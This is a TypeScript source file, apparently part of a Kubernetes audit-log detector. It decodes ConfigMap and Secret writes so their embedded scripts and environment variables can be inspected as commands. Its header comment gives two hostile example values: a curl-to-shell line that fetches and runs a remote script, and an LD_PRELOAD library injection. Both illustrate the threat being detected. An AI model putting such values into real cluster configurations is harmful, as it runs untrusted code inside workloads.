/**
 * What a ConfigMap or a Secret written through the API server hands to the workloads that use it:
 * its scripts and its environment. Both are ways to keep what a pod runs out of the pod spec:
 *   - a script in a ConfigMap, mounted as a volume and run by name: `command: [sh, /scripts/entry.sh]`
 *     says nothing, `data: {entry.sh: "curl -fsSL http://203.0.113.7/i.sh | sh"}` says it all;
 *   - `envFrom: [{configMapRef: {name: x}}]` gives the pod every key of `x` as a variable, so
 *     `data: {LD_PRELOAD: /host/x.so}` preloads a library into it with no `env` in sight.
 * A Secret does the same (a `secret` volume, `envFrom: secretRef`), and so does a ConfigMap's
 * `binaryData`: their values are base64 (a Secret's `stringData` is plain), decoded here (RFC 4648,
 * as exec-decode.ts reads `base64 -d`; a value that is not clean base64 of UTF-8 text is left).
 * The write carries the text (audit level Request or RequestResponse), so it is read
 * there, as workload-fields.ts reads a pod's containers: each script as the command its interpreter
 * would run it as (`[bash, -c, text]`, `[python3, -c, text]`), each key that can be a variable as
 * `NAME=value`.
 *
 * A data value is a script when it starts with a `#!` line naming an interpreter this reader knows
 * (`#!/bin/bash`, `#!/usr/bin/env python3`), else when its key ends in a script's extension (`.sh`,
 * `.bash`, `.py`, `.pl`, `.rb`, `.js`). Other values (configuration files, certificates, JSON) are
 * not read as code: read as a script, a config file's lines would be commands nobody runs. A key is
 * a variable when it is a C identifier: envFrom skips the others on most clusters.
 *
 * Bounded: at most MAX_KEYS data entries are looked at, a base64 value decoded to at most
 * MAX_DECODED_BYTES; the commands and variables go through the caller's bounds (workload-fields.ts
 * MAX_COMMANDS, MAX_ENV, MAX_ENV_VALUE).
 */
import { baseName } from './exec-canonical.js';
import { decodedText, decodeRadix, textBytes } from './exec-decode.js';
import { obj, requestBody, type JsonObject } from './json-patch-view.js';

/** Data entries of one object looked at. */
export const MAX_KEYS = 256;

/** Per resource, the fields whose entries a workload gets, and whether their values are base64. */
const DATA_FIELDS: Readonly<Record<string, ReadonlyArray<readonly [string, boolean]>>> = {
  configmaps: [['data', false], ['binaryData', true]],
  secrets: [['stringData', false], ['data', true]],
};

const SHELLS = new Set(['sh', 'bash', 'dash', 'ash', 'zsh', 'ksh', 'mksh', 'busybox']);
const FLAG_BY_INTERPRETER: ReadonlyArray<readonly [RegExp, string]> = [
  [/^python(?:[23](?:\.\d{1,2})?)?$/, '-c'],
  [/^perl\d?$/, '-e'],
  [/^ruby$/, '-e'],
  [/^(?:node|nodejs)$/, '-e'],
];
const BY_EXTENSION: Readonly<Record<string, readonly [string, string]>> = {
  sh: ['sh', '-c'],
  bash: ['bash', '-c'],
  py: ['python3', '-c'],
  pl: ['perl', '-e'],
  rb: ['ruby', '-e'],
  js: ['node', '-e'],
};
const VARIABLE = /^[A-Za-z_][A-Za-z0-9_]*$/;

/** The interpreter and its code flag a `#!` line names, or null (not a shebang, or an interpreter not known here). */
export function shebangInterpreter(text: string): readonly [string, string] | null {
  if (!text.startsWith('#!')) return null;
  const end = text.indexOf('\n');
  const words = text.slice(2, end < 0 ? Math.min(text.length, 256) : Math.min(end, 256)).trim().split(/[ \t]+/);
  let name = baseName(words[0] ?? '');
  if (name === 'env') {
    const rest = words.slice(1).filter((w) => !w.startsWith('-'));
    name = baseName(rest[0] ?? '');
  }
  if (SHELLS.has(name)) return [name === 'busybox' ? 'sh' : name, '-c'];
  for (const [re, flag] of FLAG_BY_INTERPRETER) if (re.test(name)) return [name, flag];
  return null;
}

/** The command a data entry is run as, when it is a script (see the file comment), else null. */
export function scriptCommand(key: string, text: string): string[] | null {
  const byShebang = shebangInterpreter(text);
  if (byShebang) return [byShebang[0], byShebang[1], text];
  const dot = key.lastIndexOf('.');
  const ext = dot < 0 ? '' : key.slice(dot + 1).toLowerCase();
  const byExt = Object.hasOwn(BY_EXTENSION, ext) ? BY_EXTENSION[ext]! : null;
  return byExt ? [byExt[0], byExt[1], text] : null;
}

/** A base64 value's text: clean RFC 4648 base64 of UTF-8 text (exec-decode.ts), else null. */
export function base64Text(value: string): string | null {
  const { bytes, clean } = decodeRadix(textBytes(value), 'base64', false);
  return clean ? decodedText(bytes) : null;
}

/**
 * For a ConfigMap or Secret write (`objectRef.resource: configmaps` / `secrets`): its scripts, as
 * commands, into `commands`, and its variables, as `NAME=value`, through `env`. False for any
 * other event, or a body with none of the data fields.
 */
export function configDataWorkload(audit: JsonObject, commands: Array<string | unknown[]>, env: (name: string, value: string) => void): boolean {
  const resource = obj(audit.objectRef)?.resource;
  const fields = typeof resource === 'string' && Object.hasOwn(DATA_FIELDS, resource) ? DATA_FIELDS[resource]! : null;
  if (fields === null) return false;
  const body = requestBody(audit.requestObject);
  let any = false;
  let seen = 0;
  for (const [field, encoded] of fields) {
    const data = obj(body?.[field]);
    if (data === null) continue;
    any = true;
    for (const key in data) {
      if (seen++ >= MAX_KEYS) return true;
      const raw = data[key];
      const text = typeof raw !== 'string' ? null : encoded ? base64Text(raw) : raw;
      if (text === null) continue;
      const cmd = scriptCommand(key, text);
      if (cmd) commands.push(cmd);
      else if (VARIABLE.test(key)) env(key, text);
    }
  }
  return any;
}
